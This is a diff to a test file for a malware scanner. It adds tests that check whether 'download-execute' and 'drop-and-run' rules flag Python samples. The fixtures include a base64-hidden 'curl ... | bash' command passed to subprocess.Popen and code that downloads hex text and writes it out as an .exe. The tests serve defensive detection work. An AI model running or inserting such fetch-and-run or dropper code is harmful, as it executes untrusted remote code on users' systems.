@@ -402,3 +402,35 @@ test('a downloaded executable started through os.path.abspath is still the file 
   ].join('\n');
   assert.equal(findings(source).find((f) => f.rule === 'download-execute')?.severity, 'high');
 });
+
+test('a command list bound to a name first (command = [...]; Popen(command)) is read like one written in the call', () => {
+  const source = [
+    'import base64, subprocess',
+    'def decode_str(s):',
+    '    return base64.b64decode(s).decode("utf-8")',
+    'def processing():',
+    `    command = [decode_str("${Buffer.from('curl https://files.example.invalid/i.sh | bash').toString('base64')}")]`,
+    '    subprocess.Popen(command)',
+  ].join('\n');
+  const run = findings(source).find((f) => f.rule === 'download-execute');
+  assert.equal(run?.severity, 'high', 'the command is decoded and hidden');
+  assert.match(run!.message, /curl https:\/\/files\.example\.invalid/);
+});
+
+test('an executable written from downloaded text decoded to bytes is a first stage, even before anything runs it', () => {
+  const source = [
+    'import binascii, requests',
+    'def fetch(folder):',
+    '    text = requests.get("https://files.example.invalid/c.txt").text',
+    "    with open(folder + 'c1.exe', 'wb') as f:",
+    '        f.write(binascii.unhexlify(text.encode()))',
+  ].join('\n');
+  const drop = findings(source).find((f) => f.rule === 'drop-and-run');
+  assert.equal(drop?.severity, 'high');
+  const plain = source.replace('binascii.unhexlify(text.encode())', 'text.encode()');
+  assert.equal(
+    findings(plain).find((f) => f.rule === 'drop-and-run'),
+    undefined,
+    'a download saved as it comes, never started',
+  );
+});
